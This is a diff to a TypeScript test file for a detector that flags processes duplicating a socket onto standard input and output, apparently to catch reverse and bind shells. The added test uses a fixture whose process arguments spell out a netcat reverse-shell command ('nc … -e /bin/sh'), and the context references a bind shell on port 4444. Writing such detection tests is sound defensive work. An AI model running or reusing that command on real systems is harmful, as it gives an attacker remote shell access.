@@ -51,6 +51,17 @@ describe('dupEvents', () => {
     expect(dupEvents(sh, c, listeningIndex([s]), memory)).toEqual([]); // once per (process, socket)
   });
 
+  it('raises the shell\'s dup after the same pid was seen as nc with the socket (nc -e execs in place)', () => {
+    const s = sock({ inode: 7, pids: [10] });
+    const stdio = [{ kind: 'socket', inode: 7 }, { kind: 'socket', inode: 7 }, { kind: 'pipe', inode: 3 }] as const;
+    const asNc = proc({ pid: 10, comm: 'nc', exe: '/bin/busybox', args: ['nc', 'h', '1', '-e', '/bin/sh'], stdio });
+    const asSh = proc({ pid: 10, comm: 'sh', exe: '/bin/busybox', args: ['/bin/sh'], stdio });
+    const memory = new DupMemory();
+    expect(dupEvents(asNc, ctx([asNc], [s]), new Map(), memory).map((e) => e.proc?.name)).toEqual(['nc']);
+    expect(dupEvents(asSh, ctx([asSh], [s]), new Map(), memory).map((e) => e.proc?.name)).toEqual(['sh']);
+    expect(dupEvents(asSh, ctx([asSh], [s]), new Map(), memory)).toEqual([]);
+  });
+
   it('marks an accepted socket as inbound (bind shell), still a dup', () => {
     const listen = sock({ inode: 1, state: 'LISTEN', localPort: 4444, remotePort: 0, remoteAddr: '0.0.0.0' });
     const s = sock({ inode: 7, localPort: 4444, remotePort: 50000, pids: [10] });
